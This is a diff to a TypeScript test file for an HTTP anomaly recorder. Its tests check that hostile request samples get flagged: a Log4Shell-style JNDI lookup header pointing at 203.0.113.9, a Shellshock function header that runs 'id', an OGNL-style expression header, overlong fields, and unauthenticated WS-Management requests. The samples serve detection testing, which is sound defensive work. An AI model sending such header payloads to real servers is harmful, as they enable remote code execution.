@@ -152,15 +152,18 @@ test('a part of a file says where it stands in the whole', () => {
   assert.deepEqual(file.slice(14, 19), [4, 100, 10, 0, true])
 })
 
-test('an expression in a header, an overlong field and management without a login are anomalies', () => {
+test('an expression or a shell function in a header, an overlong field and management without a login are anomalies', () => {
   const talk = new Talk()
   talk.says('client', `GET / HTTP/1.1\r\nX-Api-Version: \${jndi:ldap://203.0.113.9/a}\r\nAccept: $1, {2}\r\n\r\n`)
   talk.says('server', 'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n')
   assert.deepEqual(talk.recorder.anomalies, ['http.expression-in-header'])
+  const other = new Talk()
+  other.says('client', 'GET / HTTP/1.1\r\nCookie: () { :;}; id\r\nContent-Type: %{(#a=@b)}\r\nAccept: 50% {a} f() (x)\r\n\r\n')
+  assert.deepEqual(other.recorder.anomalies, ['http.function-in-header', 'http.expression-in-header'])
   const long = new Talk()
-  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(513)}\r\nCookie: ${'a'.repeat(2000)}\r\n\r\n`)
-  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(512)}\r\n\r\n`)
-  assert.deepEqual(long.recorder.anomalies, ['http.overlong-field'])
+  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(256)}\r\nCookie: ${'a'.repeat(2000)}\r\n\r\n`)
+  long.says('client', `GET / HTTP/1.1\r\nFrom: ${'a'.repeat(255)}\r\n\r\n`)
+  assert.deepEqual([long.recorder.anomalies, long.recorder.texts], [['http.overlong-field'], [['from', 256]]])
   const manage = (login: string, status: string) => {
     const other = new Talk()
     other.says('client', `POST /wsman HTTP/1.1\r\n${login}Content-Length: 0\r\n\r\n`)
@@ -169,6 +172,15 @@ test('an expression in a header, an overlong field and management without a logi
   }
   assert.deepEqual(manage('', '200 OK'), ['http.management-without-login'])
   assert.deepEqual([...manage('', '401 Unauthorized'), ...manage('Authorization: Negotiate TlRM\r\n', '200 OK')], [])
+})
+
+test('a head that goes on for ever is looked at as far as it may be, and says so', () => {
+  const talk = new Talk()
+  talk.says('client', `GET /${'a'.repeat(70_000)}`)
+  assert.equal(talk.messages.length, 0, 'not yet known for what it is')
+  talk.says('client', `GET / HTTP/1.1\r\nX-Pad: ${'a'.repeat(80_000)}`)
+  assert.deepEqual(talk.recorder.anomalies, ['http.truncated', 'text.overlong'])
+  assert.deepEqual(talk.recorder.texts, [['field x-pad', 65_536 - 'GET / HTTP/1.1\r\nX-Pad: '.length]])
 })
 
 test('other protocols are refused at their first bytes', () => {
